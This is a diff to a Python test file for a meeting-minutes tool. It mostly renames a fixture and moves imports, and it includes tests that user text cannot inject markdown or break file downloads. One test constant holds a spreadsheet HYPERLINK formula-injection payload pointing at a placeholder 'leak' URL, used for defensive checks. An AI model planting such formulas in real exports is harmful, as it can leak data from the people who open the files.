@@ -28,8 +28,8 @@ from fitgap.domain.meetings.minutes import (
 from fitgap.store import audit as audit_queries
 from fitgap.store.db import Database
 from tests.helpers import Invoke, moderate
-from tests.test_meetings import decide, project, record_sample  # noqa: F401 - project is a fixture
-from tests.test_minutes import sample_minutes
+from tests.meetings import decide, record_sample
+from tests.samples import sample_minutes
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak","開く")'
 
@@ -134,7 +134,7 @@ def test_user_text_cannot_add_blocks_tags_or_comments_to_the_markdown() -> None:
     assert "## 令和7年4月1日（2025-04-01） 住民 記録 第1回 \\# 偽の見出し" in markdown
 
 
-@pytest.mark.usefixtures("project")
+@pytest.mark.usefixtures("meeting_project")
 def test_a_line_break_in_an_area_name_does_not_break_the_download(
     db: Database, client: FlaskClient
 ) -> None:
@@ -182,7 +182,7 @@ WRITERS = {
 }
 
 
-@pytest.mark.usefixtures("project")
+@pytest.mark.usefixtures("meeting_project")
 @pytest.mark.parametrize("command", WRITERS)
 def test_an_existing_output_file_is_kept_unless_forced(
     command: str, fitgap: Invoke, files: Path
@@ -202,7 +202,7 @@ def test_an_existing_output_file_is_kept_unless_forced(
     assert (out / name).read_bytes() != b"old"
 
 
-@pytest.mark.usefixtures("project")
+@pytest.mark.usefixtures("meeting_project")
 def test_the_decision_log_is_all_or_nothing_when_one_file_exists(
     db: Database, fitgap: Invoke, files: Path
 ) -> None:
@@ -214,7 +214,7 @@ def test_the_decision_log_is_all_or_nothing_when_one_file_exists(
     assert [p.name for p in (files / "out").iterdir()] == ["decisions-all.md"]
 
 
-@pytest.mark.usefixtures("project")
+@pytest.mark.usefixtures("meeting_project")
 @pytest.mark.parametrize("command", WRITERS)
 def test_out_of_the_wrong_kind_is_a_clear_error(command: str, fitgap: Invoke, files: Path) -> None:
     args, _name, is_file = WRITERS[command]
